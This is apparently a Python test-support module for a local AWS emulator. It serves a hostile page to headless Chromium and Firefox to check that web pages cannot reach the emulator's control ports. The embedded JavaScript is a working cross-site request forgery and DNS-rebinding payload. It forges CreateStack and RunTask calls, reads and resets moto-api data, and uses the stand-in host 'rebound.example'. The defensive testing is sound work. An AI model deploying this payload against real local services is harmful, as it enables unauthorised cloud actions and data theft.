"""A web page of somebody else's, the server that it comes from, and browsers that visit it."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from emulator.tests.support.browser import ARGUMENTS

REBOUND = "rebound.example"  # a name of the attacker's that leads to this machine
# Each way to send a request comes to a host of its own, to be told from the others.
WAYS = ("img", "form", "multipart", "simple", "preflight", "moto", "frame", "navigation")

_CREDENTIAL = quote("AKIA/20260101/us-east-1/cloudformation/aws4_request", safe="")
_CREATE = f"Action=CreateStack&Version=2010-05-15&StackName=evil&TemplateBody=x&X-Amz-Credential={_CREDENTIAL}"

_PAGE = """<!doctype html><meta charset="utf-8"><title>Win a prize</title><body><script>
const ports = PORTS, like = LIKE, create = CREATE
const conditions = [['starts-with', '$key', ''], ['starts-with', '$bucket', '']]
const policy = btoa(JSON.stringify({ expiration: '2099-01-01T00:00:00Z', conditions }))
const ended = (element) => new Promise((done) => { element.onload = element.onerror = () => done() })
const add = (name, facts) => { const it = Object.assign(document.createElement(name), facts); const end = ended(it)
  document.body.append(it); return end }
const post = (url, enctype, fields) => {
  const frame = `f${Math.random()}`, form = Object.assign(document.createElement('form'),
    { action: url, method: 'post', enctype, target: frame })
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement('input'), { name, value }))
  const end = add('iframe', { name: frame })
  document.body.append(form); form.submit()
  return end }
const quiet = (promise) => promise.then(async (it) => `${it.type} ${await it.text()}`, (error) => `${error}`)
async function attack(port) {
  const at = (way) => `http://${way}.localhost:${port}`, fields = Object.fromEntries(new URLSearchParams(create))
  const json = { 'Content-Type': 'application/x-amz-json-1.1',
    'X-Amz-Target': 'AmazonEC2ContainerServiceV20141113.RunTask' }
  const read = [
    quiet(fetch(`${at('simple')}/?${create}`, { method: 'POST', mode: 'no-cors', body: '{}' })),
    quiet(fetch(`${at('preflight')}/`, { method: 'POST', headers: json, body: '{}' })),
    quiet(fetch(`${at('moto')}/moto-api/data.json`)),
    quiet(fetch(`${at('moto')}/moto-api/reset`, { method: 'POST', mode: 'no-cors' })),
    quiet(fetch(`http://REBOUND:${port}/`, { method: 'POST', body: new URLSearchParams(create), mode: 'no-cors' })) ]
  const sent = [ add('img', { src: `${at('img')}/?${create}` }), add('iframe', { src: `${at('frame')}/?${create}` }),
    post(`${at('form')}/`, 'application/x-www-form-urlencoded', fields),
    post(`${at('multipart')}/multipart`, 'multipart/form-data', { key: 'a', policy, file: 'b' }) ]
  open(`${at('navigation')}/?${create}`); open(`http://REBOUND:${port}/?${create}`)
  return Promise.all(read)
}
async function main() {
  const liked = quiet(fetch(like, { method: 'POST' }))
  const answers = await Promise.all(ports.map(attack))
  await fetch('/report', { method: 'POST', body: JSON.stringify({ liked: await liked, answers }) })
}
main()
</script>"""


class Attacker:
    """The server of the page, on an origin that is nobody's here. `reports` is what the page has told."""

    def __init__(self, ports: list[int], like: str) -> None:
        told = {"PORTS": json.dumps(ports), "LIKE": json.dumps(like), "CREATE": json.dumps(_CREATE)}
        page = _PAGE.replace("REBOUND", REBOUND)
        for name, value in told.items():
            page = page.replace(name, value, 1)
        self.reports: list[dict[str, Any]] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(page.encode() if self.path == "/page" else b"")

            def do_POST(self) -> None:
                attacker.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None: ...

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}/page"
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def chromium(program: str, profile: Path, url: str) -> Iterator[None]:
    """Chromium on a page."""
    rules = f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1"
    options = [*ARGUMENTS, "--headless", "--disable-popup-blocking", f"--user-data-dir={profile}", rules]
    with _running([program, *options, url], profile):
        yield


_PREFERENCES = {
    "app.update.auto": False,
    "browser.shell.checkDefaultBrowser": False,
    "browser.startup.homepage_override.mstone": "ignore",
    "datareporting.policy.dataSubmissionEnabled": False,
    "datareporting.policy.firstRunURL": "",
    "dom.disable_open_during_load": False,  # pages may open windows
    "network.captive-portal-service.enabled": False,
    "network.connectivity-service.enabled": False,
    "network.dns.localDomains": REBOUND,
    "network.proxy.type": 0,
    "services.settings.server": "http://127.0.0.1:9",
    "toolkit.telemetry.reportingpolicy.firstRun": False,
}


@contextmanager
def firefox(program: str, profile: Path, url: str) -> Iterator[None]:
    """Firefox on a page."""
    lines = [f"user_pref({json.dumps(name)}, {json.dumps(value)});\n" for name, value in _PREFERENCES.items()]
    (profile / "user.js").write_text("".join(lines))
    with _running([program, "--headless", "--no-remote", "--profile", str(profile), url], profile):
        yield


@contextmanager
def _running(command: list[str], home: Path) -> Iterator[None]:
    browser = subprocess.Popen(
        command,
        env={**os.environ, "HOME": str(home), "MOZ_CRASHREPORTER_DISABLE": "1"},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


def firefox_program() -> str:
    """Where Firefox is. Without one the test is skipped, loudly; where the pipeline runs it fails."""
    found = os.environ.get("TEST_FIREFOX") or shutil.which("firefox-esr") or shutil.which("firefox")
    if found:
        return found
    missing = "There is no Firefox: NOT SHOWN that its pages reach no control port. Install firefox-esr."
    if os.environ.get("CI", "").lower() in ("1", "true"):
        pytest.fail(missing, pytrace=False)
    pytest.skip(missing)
